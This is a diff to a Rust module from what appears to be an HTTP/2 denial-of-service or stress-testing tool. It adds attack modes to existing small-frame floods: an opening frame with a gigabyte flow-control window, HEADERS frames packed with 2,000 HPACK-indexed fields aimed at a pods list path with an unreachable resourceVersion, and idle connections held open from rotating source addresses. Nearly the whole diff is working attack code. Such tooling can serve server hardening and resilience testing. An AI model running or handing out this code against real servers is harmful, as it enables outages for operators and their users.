@@ -1,5 +1,7 @@
-//! Floods of small HTTP/2 frames that request nothing but cost work. The server's answers are read and dropped.
+//! Raw HTTP/2 connections: floods of small frames that request nothing but cost work, heads of many fields, and no frames at all. The
+//! server's answers are read and dropped.
 
+use std::borrow::Cow;
 use std::sync::Arc;
 use std::sync::atomic::Ordering;
 use std::time::Duration;
@@ -11,26 +13,36 @@ use tokio::task::JoinSet;
 use super::Attack;
 use super::{AttackState, OpenConnection, count};
 
-/// The preface, and SETTINGS without any setting.
-const OPENING: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
+/// The preface, SETTINGS without any setting, and a window of a gigabyte.
+const OPENING: &[u8] =
+    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0\0\0\x04\x08\0\0\0\0\0\x40\0\0\0";
 const PING: &[u8] = b"\0\0\x08\x06\0\0\0\0\0attacker";
 const SETTINGS: &[u8] = b"\0\0\0\x04\0\0\0\0\0";
 /// For the connection, by one byte: the window does not overflow in any run.
 const WINDOW_UPDATE: &[u8] = b"\0\0\x04\x08\0\0\0\0\0\0\0\0\x01";
 /// For a stream that is not open.
 const PRIORITY: &[u8] = b"\0\0\x05\x02\0\0\0\0\x03\0\0\0\0\x10";
+/// The field `accept-encoding: gzip, deflate` as HPACK's static table has it.
+const ACCEPT_ENCODING: u8 = 0x90;
+/// Fields of a head, as many as fit into the length that servers allow.
+const FIELDS: usize = 2_000;
+/// A version that no list reaches.
+const FUTURE: u64 = 999_999_999;
 /// How often a client sends the frames that are due.
 const SEND_EVERY: Duration = Duration::from_millis(10);
 /// A client waits for this time before it reconnects.
 const BACK_AFTER: Duration = Duration::from_millis(200);
 
 pub(super) fn begin(scene: &Arc<AttackState>, clients: &mut JoinSet<()>) {
-    for _ in 0..scene.flags.clients {
+    for number in 0..scene.flags.clients {
         let scene = scene.clone();
         clients.spawn(async move {
             let mut is_first = true;
             loop {
-                if flood(&scene, &mut is_first).await.is_err() {
+                if scene.flags.attack == Attack::IdleConnections {
+                    scene.pace.turn().await;
+                }
+                if flood(&scene, number, &mut is_first).await.is_err() {
                     count(&scene.counts.refused);
                 }
                 tokio::time::sleep(BACK_AFTER).await;
@@ -39,8 +51,29 @@ pub(super) fn begin(scene: &Arc<AttackState>, clients: &mut JoinSet<()>) {
     }
 }
 
+/// For each stream the head of a list that waits for a version, with many fields of a byte each: an index into HPACK's static table.
+fn heads(streams: impl Iterator<Item = u32>) -> Vec<u8> {
+    let path = format!("/api/v1/pods?resourceVersion={FUTURE}");
+    // The method GET, the scheme http, a path and an authority.
+    let mut block = vec![0x82, 0x86, 0x04, u8::try_from(path.len()).unwrap_or(0)];
+    block.extend_from_slice(path.as_bytes());
+    block.extend_from_slice(b"\x01\x01a");
+    block.resize(block.len() + FIELDS, ACCEPT_ENCODING);
+    let len = u32::try_from(block.len()).unwrap_or(0).to_be_bytes();
+    let mut frames = Vec::new();
+    for stream in streams {
+        frames.extend_from_slice(&len[1..]);
+        // HEADERS with END_HEADERS and END_STREAM.
+        frames.extend_from_slice(&[0x01, 0x05]);
+        frames.extend_from_slice(&stream.to_be_bytes());
+        frames.extend_from_slice(&block);
+    }
+    frames
+}
+
 /// One connection, until the server closes it.
-async fn flood(scene: &AttackState, is_first: &mut bool) -> Result<()> {
+async fn flood(scene: &AttackState, number: usize, is_first: &mut bool) -> Result<()> {
+    let mut streams = (1..).step_by(2);
     let frame = match scene.flags.attack {
         Attack::Settings => SETTINGS,
         Attack::WindowUpdates => WINDOW_UPDATE,
@@ -50,7 +83,8 @@ async fn flood(scene: &AttackState, is_first: &mut bool) -> Result<()> {
     let each_s = scene.flags.rate / scene.flags.clients.max(1) as f64;
     let frames = (each_s * SEND_EVERY.as_secs_f64()).ceil().max(1.0) as usize;
     let batch = frame.repeat(frames);
-    let stream = scene.target.connect_from(scene.flags.source, "h2").await?;
+    let source = scene.source(number);
+    let stream = scene.target.connect_from(source, "h2").await?;
     let (mut reader, mut writer) = tokio::io::split(stream);
     writer.write_all(OPENING).await?;
     let _open = OpenConnection::of(scene);
@@ -61,6 +95,11 @@ async fn flood(scene: &AttackState, is_first: &mut bool) -> Result<()> {
         let mut tick = tokio::time::interval(SEND_EVERY);
         loop {
             tick.tick().await;
+            let batch = match scene.flags.attack {
+                Attack::IdleConnections => std::future::pending().await,
+                Attack::ManyFields => Cow::Owned(heads(streams.by_ref().take(frames))),
+                _ => Cow::Borrowed(&batch[..]),
+            };
             if writer.write_all(&batch).await.is_err() {
                 return;
             }
